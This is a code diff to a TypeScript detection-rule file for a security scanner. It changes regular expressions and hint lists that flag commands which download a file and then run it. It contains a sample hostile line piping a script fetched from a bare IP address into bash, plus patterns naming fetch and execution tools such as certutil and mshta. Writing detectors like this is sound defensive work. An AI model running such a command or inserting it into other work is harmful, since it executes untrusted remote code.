@@ -21,7 +21,7 @@ export const COMBINED: Rule[] = [
     applies: "code",
     declared: "high",
     hints: FETCH_HINTS,
-    match: { together: [FETCH, BARE_ADDRESS, RUN], within: 300, lines: true },
+    match: { together: [BARE_ADDRESS, FETCH, RUN], within: 300, lines: true },
     samples: {
       bad: [
         "curl https://203.0.113.9/x.sh | bash",
@@ -76,8 +76,8 @@ export const COMBINED: Rule[] = [
     match: {
       any: [
         // The same name is written and run: what was fetched for other reasons is left alone.
-        /\b(?:curl|wget|aria2c|lwp-download|iwr|certutil)\b[^\n]{0,200}(?:>|-[a-zA-Z]{0,5}[oO]|--output(?:-document)?[= ]|-OutFile|\s) ?["']?([\w./~$-]{1,80})["']?\s(?:[^\n]{0,80}[;&\n]|\s{0,2}\n?)[^\n]{0,40}?(?:\b(?:ba|z)?sh|\bsource|(?<![\w/])\.|\bpython[\d.]{0,4}|\bnode|\bperl)\s["']?\1\b/,
-        /\b(?:curl|wget|aria2c|lwp-download|certutil)\b[^\n;&]{0,200}\s([\w./~$-]{1,80}\.?\w{0,5}) ?(?:;|&{1,2}) ?(?:(?:ba|z)?sh |source |\. |python[\d.]{0,4} |node |chmod [\w+]{2,5} |)\1\b/,
+        /\b(?:curl|wget|aria2c|lwp-download|iwr|certutil)\b[^\n]{0,200}(?:>|-[a-zA-Z]{0,5}[oO]|--output(?:-document)?[= ]|-OutFile) ?["']?([\w./~$-]{1,80})["']?\s(?:[^\n]{0,80}[;&\n]|\s{0,2}\n?)[^\n]{0,40}?(?:\b(?:ba|z)?sh|\bsource|(?<![\w/])\.|\bpython[\d.]{0,4}|\bnode|\bperl)\s["']?\1\b/,
+        /\b(?:curl|wget|aria2c|lwp-download|certutil)\b[^\n;&]{0,200}\s([\w./~$-]{1,80}) ?(?:;|&{1,2}) ?(?:(?:ba|z)?sh |source |\. |python[\d.]{0,4} |node |chmod [\w+]{2,5} |)\1\b/,
         /\bgit clone [^\n;&]{0,120}(?:[;&\n] ?){1,2}(?:cd [^\n;&]{1,60}[;&\n]{1,2} ?)?(?:(?:ba)?sh|python[\d.]{0,4}|node|make|\.\/)[^\n]{0,80}/,
         /\burlretrieve\([^\n]{0,160},? ?["']([\w./~-]{2,60})["'](?:[^\n]{0,80}\n){1,6}?[^\n]{0,60}(?:subprocess|os\.system|exec|popen|spec_from_file|run_path)[^\n]{0,80}\1/,
         /\bopen\(["']([\w./~-]{2,60})["'][^\n]{0,20}\.write\([^\n]{0,20}(?:requests\.get|urlopen|httpx\.get)(?:[^\n]{0,120}\n){1,6}?[^\n]{0,60}(?:subprocess|os\.system|exec|popen)[^\n]{0,60}\1/,
@@ -107,7 +107,7 @@ export const COMBINED: Rule[] = [
     confidence: "high",
     advice: SHIP,
     applies: "code",
-    hints: ["curl", "wget", "fetch", "openssl", "dig", "ssh ", "nslookup", "mshta", "regsvr32", "://"],
+    hints: ["<<<", "| sh", "|sh", "bash", "xargs", "$shell", "${shell", "$0", "eval", "sh -c", "zsh", "dash", "| sudo", "mshta", "regsvr32"],
     declared: "medium",
     match: {
       any: [
